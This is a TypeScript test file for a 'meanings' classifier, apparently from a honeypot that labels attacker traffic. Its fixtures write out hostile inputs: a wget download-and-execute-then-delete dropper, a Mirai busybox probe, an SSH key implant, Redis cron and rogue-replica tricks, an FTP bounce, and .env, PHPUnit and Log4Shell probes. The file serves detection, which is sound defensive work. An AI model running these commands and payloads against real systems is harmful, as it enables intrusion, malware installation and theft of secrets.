import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { en } from '../src/i18n/en.ts'
import { meanings } from '../src/meaning.ts'

describe('what a command means', () => {
  const shell: [string, string[]][] = [
    ['uname -a', ['machine']],
    ['cat /proc/cpuinfo | grep name | wc -l', ['processor']],
    ['cd /tmp; wget http://198.51.100.7/a.sh; chmod 777 a.sh; sh a.sh; rm -rf a.sh', ['fetch', 'execute', 'wipe']],
    ['/bin/busybox ECCHI', ['mirai']],
    ['echo "ssh-rsa AAAA" >> .ssh/authorized_keys', ['key']],
    ['enable', ['shell']],
    ['echo hello', []],
  ]
  for (const [line, expected] of shell) it(line, () => assert.deepEqual(meanings('ssh', 'command', line), expected))

  const redis: [string, string[]][] = [
    ['CONFIG SET dir /var/spool/cron', ['redisDir']],
    ['SLAVEOF 198.51.100.7 6379', ['redisReplica']],
    ['SLAVEOF NO ONE', []],
    ['module load ./exp.so', ['redisModule']],
  ]
  for (const [line, expected] of redis) it(line, () => assert.deepEqual(meanings('redis', 'command', line), expected))

  it('PORT 198,51,100,7,0,80', () =>
    assert.deepEqual(meanings('ftp', 'command', 'PORT 198,51,100,7,0,80'), ['ftpBounce']))
})

describe('what a request is after', () => {
  const requests: [string, string[]][] = [
    ['GET /.env', ['secrets']],
    ['GET /.git/config', ['git']],
    ['POST /wp-login.php', ['wordpress']],
    ['GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', ['phpunit']],
    ['GET /?x=$\u007bjndi:ldap://198.51.100.7/a}', ['log4shell']],
    ['CONNECT example.com:443', ['proxy']],
    ['GET http://example.com/', ['proxy']],
    ['GET /', []],
  ]
  for (const [line, expected] of requests) it(line, () => assert.deepEqual(meanings('http', 'request', line), expected))
})

it('has words for every meaning it can find, and looks only at the start of a flood', () => {
  const flood = `${'a '.repeat(2000)}wget`
  assert.deepEqual(meanings('ssh', 'command', flood), [])
  for (let n = 0; n < 2000; n++) {
    const line = Array.from({ length: n % 200 }, () => String.fromCharCode(Math.floor(Math.random() * 256))).join('')
    for (const service of ['ssh', 'redis', 'ftp', 'constructor'])
      for (const action of ['command', 'request'])
        for (const meaning of meanings(service, action, line)) assert.ok(en.meanings[meaning])
  }
})
